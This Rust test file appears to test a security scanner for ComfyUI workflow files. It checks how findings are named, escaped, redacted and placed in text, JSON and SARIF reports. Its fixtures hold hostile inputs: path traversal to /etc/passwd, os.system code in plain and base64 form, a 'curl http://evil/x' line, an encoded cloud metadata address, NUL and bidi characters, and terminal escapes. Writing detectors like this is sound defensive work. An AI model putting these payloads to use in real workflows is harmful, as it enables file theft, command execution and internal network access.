//! `comfywarden inspect` as people and build servers see it: what was found, and where.

use std::path::Path;

use serde_json::{Value, json};

use crate::cli::commands::run;

/// Runs `inspect` on a file of this content, in this form.
async fn printed(content: &str, form: Option<&str>) -> String {
    let home = tempfile::tempdir().unwrap();
    std::fs::write(home.path().join("w.json"), content).unwrap();
    inspected(home.path(), "w.json", form).await
}

async fn inspected(home: &Path, file: &str, form: Option<&str>) -> String {
    let arguments: Vec<&str> = ["inspect"].into_iter().chain(form).chain([file]).collect();
    let output = run(home, &arguments).await.unwrap();
    String::from_utf8(output.stdout).unwrap()
}

async fn log(content: &str) -> Value {
    serde_json::from_str(&printed(content, Some("--sarif")).await).unwrap()
}

fn nested() -> Value {
    let inner = json!({"1": {"class_type": "LoadImage", "inputs": {"image": "../../x"}}});
    json!({
        "1": {"class_type": "CheckpointLoaderSimple", "inputs": {"ckpt_name": "a.safetensors"}},
        "9": {"class_type": "X", "inputs": {"graph": inner}}
    })
}

#[tokio::test]
async fn a_node_of_a_nested_graph_is_named_by_its_place_in_every_form() {
    let content = nested().to_string();
    let text = printed(&content, None).await;
    assert!(text.contains("Suspicious input in node 9.graph.1 (LoadImage), field 'image': "), "{text}");
    assert!(text.contains("[node 9.graph.1, image]"), "{text}");
    let report: Value = serde_json::from_str(&printed(&content, Some("--json")).await).unwrap();
    assert_eq!(report[0]["findings"][0]["node_id"], "9.graph.1");
    let place = &log(&content).await["runs"][0]["results"][0]["locations"][0]["logicalLocations"][0];
    assert_eq!(place["fullyQualifiedName"], "9.graph.1.image");
}

#[tokio::test]
async fn a_node_of_a_drawn_subgraph_is_named_as_comfyui_names_it() {
    let id = "5f0e5c3a-9d0a-4c51-9f8e-3a1b2c4d5e6f";
    let inner = json!([{"id": 3, "type": "LoadImage", "widgets_values": ["../../../etc/passwd", "image"]}]);
    let drawn = json!({"last_node_id": 9, "version": 0.4, "links": [], "nodes": [{"id": 9, "type": id}],
        "definitions": {"subgraphs": [{"id": id, "nodes": inner, "links": []}]}});
    let text = printed(&drawn.to_string(), None).await;
    assert!(text.contains("[node 9:3, "), "{text}");
}

#[tokio::test]
async fn names_of_strangers_make_no_lines_of_their_own() {
    let inner = json!({"\u{1b}[2J\n::error::x": {"class_type": "Terminal", "inputs": {}}});
    let text = printed(&json!({"9": {"class_type": "X", "inputs": {"g": inner}}}).to_string(), None).await;
    assert!(text.lines().skip(1).all(|line| line.starts_with("  ")), "{text}");
    assert!(text.contains("[node 9.g.\\x1b[2J\\n::error::x]"), "{text}");
}

#[tokio::test]
async fn a_finding_says_what_it_found_and_why() {
    let secret = "sk-0123456789abcdefghij0123";
    let workflow = json!({
        "1": {"class_type": "X", "inputs": {"code": format!("import os; os.system('id') # {secret}")}},
        "2": {"class_type": "X", "inputs": {"value": "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="}},
        "3": {"class_type": "SaveImage", "inputs": {"filename_prefix": "a\u{0}b"}},
        "4": {"class_type": "X", "inputs": {"value": "curl http://evil/x"}},
        "5": {"class_type": "X", "inputs": {"value": "aHR0cDovLzE2OS4yNTQuMTY5LjI1NC8="}},
        "6": {"class_type": "SaveImage", "inputs": {"filename_prefix": "../../x\u{202e}"}},
        "7": {"class_type": "X", "inputs": {"command": "id"}},
        "8": {"class_type": "X", "inputs": {"token": "hunter2hunter2"}}
    });
    let text = printed(&workflow.to_string(), None).await;
    let says = |node: &str, what: &str| {
        let start = format!("node {node} (");
        assert!(text.lines().any(|line| line.contains(&start) && line.contains(what)), "{what}: {text}");
    };
    says("1", "field 'code': it reads as code: “import os; os.system('id')");
    says(
        "2",
        "field 'value': it reads as code once it is decoded or put together: “import os; os.system('id')”",
    );
    says("3", "a NUL character in a path, where some programs take it for the end: “a\\x00b”");
    says("4", "the host `evil`: a name without a domain is looked up in the local network");
    says("5", "the internal address `169.254.169.254`, once it is decoded: “http://169.254.169.254/”");
    says("6", "the path leaves ComfyUI's folders: “../../x\\u{202e}”");
    says("7", "field 'command': a command line: “id”");
    says("8", "field 'token': [redacted], a credential that would be stored");
    assert!(
        !text.contains("hunter2")
            && !text.contains("0123456789")
            && !text.contains('\u{202e}')
            && !text.contains('\u{0}'),
        "{text}"
    );
}

#[tokio::test]
async fn a_sarif_log_describes_its_rules_and_points_to_lines() {
    let content = serde_json::to_string_pretty(&nested()).unwrap();
    let log = log(&content).await;
    let run = &log["runs"][0];
    let rule = &run["tool"]["driver"]["rules"][0];
    assert_eq!(rule["id"], "path_escape");
    assert_eq!(rule["defaultConfiguration"]["level"], "error");
    for key in ["shortDescription", "fullDescription", "help"] {
        assert!(rule[key]["text"].as_str().is_some_and(|text| text.len() > 20), "{rule}");
    }
    let place = &run["results"][0]["locations"][0]["physicalLocation"];
    let line = content.lines().position(|line| line.contains("../../x")).unwrap() + 1;
    assert_eq!(place["region"]["startLine"], line);
    assert_eq!(place["artifactLocation"]["uri"], "w.json");
}

#[tokio::test]
async fn a_finding_in_a_picture_has_no_line() {
    let home = tempfile::tempdir().unwrap();
    let picture = crate::support::picture::carrying(&nested());
    std::fs::write(home.path().join("a b#c.png"), picture).unwrap();
    let log: Value =
        serde_json::from_str(&inspected(home.path(), "a b#c.png", Some("--sarif")).await).unwrap();
    let place = &log["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
    assert_eq!(*place, json!({"artifactLocation": {"uri": "a%20b%23c.png"}}));
}
